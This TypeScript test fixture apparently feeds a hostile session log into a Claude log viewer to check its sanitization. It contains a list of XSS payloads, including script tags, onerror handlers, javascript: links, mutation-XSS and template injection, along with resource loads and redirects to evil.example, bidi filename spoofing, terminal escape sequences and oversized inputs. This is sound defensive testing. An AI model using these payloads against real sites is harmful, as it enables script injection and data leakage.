import type { LogPlan } from './claude-log.ts'

/** What must never run, load, navigate or style anything; each calls `window.owned` when it does. */
const attacks: readonly string[] = [
  '<script>window.owned = 1</script>',
  '<img src=x onerror="window.owned = 2">',
  '<img src="https://evil.example/pixel.gif">',
  '<svg/onload="window.owned=3"><animate onbegin=window.owned=4 attributeName=x>',
  '<iframe src="javascript:parent.owned=5"></iframe>',
  '<a href="javascript:window.owned=6">click</a>',
  '[click](javascript:window.owned=7)',
  '[click](JaVaScRiPt&colon;window.owned=8)',
  '[data](data:text/html,<script>opener.owned=9</script>)',
  '![pixel](https://evil.example/markdown.gif)',
  '![x](x" onerror="window.owned=10)',
  '<style>body{display:none}@import "https://evil.example/a.css"</style>',
  '<link rel=stylesheet href=https://evil.example/b.css><base href=https://evil.example/>',
  '<form action=https://evil.example/><button autofocus onfocus=window.owned=11>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=12&gt;">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/c.png)">cover</div>',
  '<input type=image src=https://evil.example/d.png><details open ontoggle=window.owned=13>',
  '`</code><script>window.owned=14</script>`',
  '```html\n</code></pre><script>window.owned=15</script>\n```',
  '<!--><img src onerror=window.owned=16>-->',
  '{{constructor.constructor("window.owned=17")()}} ${window.owned=18}',
]

const direction = 'invoice\u202Egnp.exe \u2066hidden\u2069'
const terminal = '\u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007 \u001B[2J\u009B31m'
const everything = `${attacks.join('\n\n')}\n\n${direction}\n\n${terminal}`

export const hostileId = '666f6f62-6172-4000-8000-00000000bad0'

/** A session whose every part tries to break out of the page. */
export const hostilePlan: LogPlan = {
  id: hostileId,
  cwd: '/home/"><img src=x onerror=window.owned=20>/proj<script>window.owned=21</script>',
  branch: '<img/src/onerror=window.owned=22>',
  start: Date.UTC(2026, 7, 20, 9),
  title: `<img src=x onerror="window.owned=23"> ${direction}`,
  turns: [
    {
      prompt: everything,
      steps: [
        { thinking: everything, text: everything },
        ...attacks.map((attack, at) => ({ text: `Number ${at}: ${attack}` })),
        { tool: { name: 'Bash', input: { command: attacks[1] }, result: everything, isError: true } },
        {
          tool: {
            name: '<img src=x onerror=window.owned=24>',
            input: { [attacks[0] ?? '']: everything },
            result: everything,
          },
        },
        {
          tool: {
            name: 'Edit',
            input: { file_path: attacks[1], old_string: everything, new_string: attacks[0] },
            result: 'ok',
          },
        },
        { tool: { name: 'Write', input: { file_path: 'a', content: everything }, result: everything } },
        { tool: { name: 'TodoWrite', input: { todos: [{ content: everything, status: attacks[1] }] }, result: 'ok' } },
        { tool: { name: 'mcp__x__deep', input: nested(400), result: '['.repeat(5000) } },
        { text: `${'> '.repeat(4000)}deep quote` },
        { text: `${'- '.repeat(3000)}deep list` },
        { text: `${'*'.repeat(9000)}stars${'['.repeat(9000)}` },
        { text: 'one long line '.repeat(20_000) },
        { text: 'x'.repeat(300_000) },
        { tool: { name: 'Bash', input: { command: 'cat wide' }, result: 'y'.repeat(400_000) } },
      ],
    },
  ],
}

function nested(depth: number): unknown {
  let value: unknown = 'end'
  for (let level = 0; level < depth; level += 1) value = { deeper: value }
  return value
}
